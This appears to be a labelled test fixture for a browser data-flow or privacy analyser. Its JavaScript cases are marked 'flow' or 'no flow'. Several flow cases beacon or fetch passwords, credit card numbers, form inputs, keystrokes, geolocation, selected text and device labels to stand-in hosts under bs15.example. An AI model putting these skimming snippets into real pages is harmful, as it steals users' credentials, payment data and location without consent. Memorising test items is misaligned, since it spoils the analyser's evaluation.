//# label-of-track-by-video-element
// flow: device > ltv.bs15.example via beacon
// why: a stream lists tracks of pictures; it is the camera's, whoever asked for it
const video1 = document.querySelector('video#preview');
video1.addEventListener('playing', () => {
  navigator.sendBeacon('https://ltv.bs15.example/c', video1.srcObject.getVideoTracks()[0].label);
});

//# label-of-track-of-canvas
// no flow
// why: what is drawn has no camera
const drawn2 = document.querySelector('canvas').captureStream(30);
navigator.sendBeacon('https://ltc.bs15.example/c', drawn2.getVideoTracks()[0].label);
navigator.mediaDevices.getUserMedia({ audio: true }).then((s) => { document.querySelector('audio').srcObject = s; });

//# label-of-track-of-player
// no flow
// why: tracks of a list of songs, next to a call that uses the microphone
class Player3 {
  constructor(tracks) { this.tracks = tracks; }
  getTracks() { return this.tracks; }
}
const player3 = new Player3([{ label: 'Overture', url: '/a.mp3' }]);
fetch('https://ltp.bs15.example/play?t=' + encodeURIComponent(player3.getTracks()[0].label));
navigator.mediaDevices.getUserMedia({ audio: true }).then((s) => { document.querySelector('audio').srcObject = s; });

//# label-of-audio-track-awaited
// flow: device > lat.bs15.example via fetch
async function lat4() {
  const stream = await navigator.mediaDevices.getUserMedia({ audio: true });
  for (const track of stream.getTracks()) fetch('https://lat.bs15.example/m?l=' + encodeURIComponent(track.label));
}
lat4();

//# active-element-of-slider
// no flow
// why: the slide that is shown, not the field with the focus
const slider5 = { slides: [{ value: 'spring' }, { value: 'summer' }], activeElement: { value: 'spring' } };
fetch('https://aes.bs15.example/s?v=' + slider5.activeElement.value);

//# active-element-of-root
// flow: input > aer.bs15.example via beacon
const host6 = document.querySelector('sign-up');
host6.addEventListener('keyup', () => {
  navigator.sendBeacon('https://aer.bs15.example/k', host6.shadowRoot.activeElement.value);
});

//# active-element-of-owner
// flow: input > aeo.bs15.example via beacon
document.addEventListener('blur', (e) => {
  const field = e.target.ownerDocument.activeElement;
  navigator.sendBeacon('https://aeo.bs15.example/k', field.value);
}, true);

//# position-watched-and-written-out
// flow: location > pww.bs15.example via beacon
navigator.geolocation.watchPosition((p) => navigator.sendBeacon('https://pww.bs15.example/w', JSON.stringify(p.coords.toJSON())));

//# to-json-of-date
// no flow
fetch('https://tjd.bs15.example/d?t=' + new Date(2024, 1, 1).toJSON());

//# range-cloned-into-text
// flow: interaction > rci.bs15.example via fetch
document.addEventListener('copy', () => {
  const range = document.getSelection().getRangeAt(0);
  fetch('https://rci.bs15.example/c', { method: 'POST', body: range.cloneContents().textContent });
});

//# range-as-text
// flow: interaction > rat.bs15.example via fetch
document.addEventListener('mouseup', () => {
  const picked = window.getSelection().getRangeAt(0).toString();
  if (picked) fetch('https://rat.bs15.example/c?q=' + encodeURIComponent(picked));
});

//# range-of-article
// no flow
// why: the range holds a part of the page that no person chose
const range12 = document.createRange();
range12.selectNodeContents(document.querySelector('article h1'));
fetch('https://roa.bs15.example/c', { method: 'POST', body: range12.cloneContents().textContent });

//# inputs-filtered-by-name
// flow: email > ifn.bs15.example via fetch
const found13 = Array.from(document.querySelectorAll('input')).find((f) => f.type === 'email');
fetch('https://ifn.bs15.example/p', { method: 'POST', body: found13.value });

//# inputs-filtered-for-checkboxes
// no flow
// why: only boxes are read, whose value stands in the page
const boxes14 = [...document.querySelectorAll('input')].filter((i) => i.type === 'checkbox' && i.checked).map((i) => i.value);
fetch('https://ifc.bs15.example/p', { method: 'POST', body: boxes14.join() });

//# inputs-of-type-in-loop
// flow: password > itl.bs15.example via beacon
for (const field of document.getElementsByTagName('input')) {
  if (field.type === 'password') navigator.sendBeacon('https://itl.bs15.example/p', field.value);
}

//# inputs-but-passwords
// flow: input > ibp.bs15.example via beacon
for (const field of document.querySelectorAll('input')) {
  if (field.type === 'password') continue;
  navigator.sendBeacon('https://ibp.bs15.example/p', field.value);
}

//# field-by-autocomplete-test
// flow: card > fba.bs15.example via beacon
for (const field of document.querySelectorAll('input')) {
  if (field.autocomplete === 'cc-number') navigator.sendBeacon('https://fba.bs15.example/p', field.value);
}

//# search-pushed-into-the-address
// flow: search > spa.bs15.example via beacon
document.querySelector('input[type=search]').form.addEventListener('submit', (e) => {
  e.preventDefault();
  const url = new URL(location.href);
  url.searchParams.set('q', e.target.querySelector('input[type=search]').value);
  history.pushState({}, '', url);
  navigator.sendBeacon('https://spa.bs15.example/l', new URLSearchParams(location.search).get('q'));
});

//# other-parameter-of-the-address
// no flow
// why: another parameter is read, which tells where the visitor came from
document.querySelector('input[type=search]').addEventListener('change', (e) => {
  history.replaceState(null, '', '?q=' + encodeURIComponent(e.target.value));
  document.title = new URLSearchParams(location.search).get('tab');
  fetch('https://opa.bs15.example/log', { method: 'POST', body: 'tab' });
});
